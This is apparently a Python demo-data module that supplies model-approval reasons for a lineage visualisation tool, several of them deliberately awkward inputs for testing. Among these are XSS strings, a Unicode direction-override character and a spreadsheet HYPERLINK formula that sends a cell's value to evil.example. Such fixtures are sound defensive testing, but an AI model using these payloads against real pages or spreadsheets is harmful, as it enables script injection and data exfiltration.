"""Texts that people wrote: reasons of decisions and descriptions, a few of them awkward for software."""

from lineage_viz.demo.builder import digest

_REASONS = {
    "Approved": (
        "Metrics are above the limits; bias report reviewed. MRM-{}",
        "Approved for production until the next quarterly review. MRM-{}",
        "Better than the version in production on all segments. MRM-{}",
        "Test with 5 % of the traffic passed; approved with monitoring. MRM-{}",
        "",
    ),
    "Rejected": (
        "Worse than the version in production on the test set. MRM-{}",
        "Not enough evidence for customers younger than 25. MRM-{}",
        "The training data lacks the last week of the month. MRM-{}",
    ),
}
"""Approvals without a reason happen too."""

_GIVEN = {
    "card-testing-models/1": "All tests passed, no finding open. MRM-412",
    "churn-subscribers-models/18": 'OK 👍 "fits <b>all</b> limits" & <script>alert(1)</script>',
    "demand-forecast-models/15": "Geprüft, größere Fehler nur an Feiertagen;\n第二回レビュー: 承認, siehe »MRM-77«",
    "price-elasticity-models/4": '=HYPERLINK("https://evil.example/?q="&A1, "open") \\ \'ok\'\u202e;--',
}

AWKWARD_CARD = 'Kündigung? <img src=x onerror="alert(2)"> 解約予測 😀 | a,b;c\t"d"'


def reason(version: str, status: str) -> str:
    """Why a version was approved or rejected; empty: nobody wrote it down."""
    drawn = int(digest("reason", version, status, size=4), 16)
    choices = _REASONS[status]
    return _GIVEN.get(version) or choices[drawn % len(choices)].format(100 + drawn % 800)
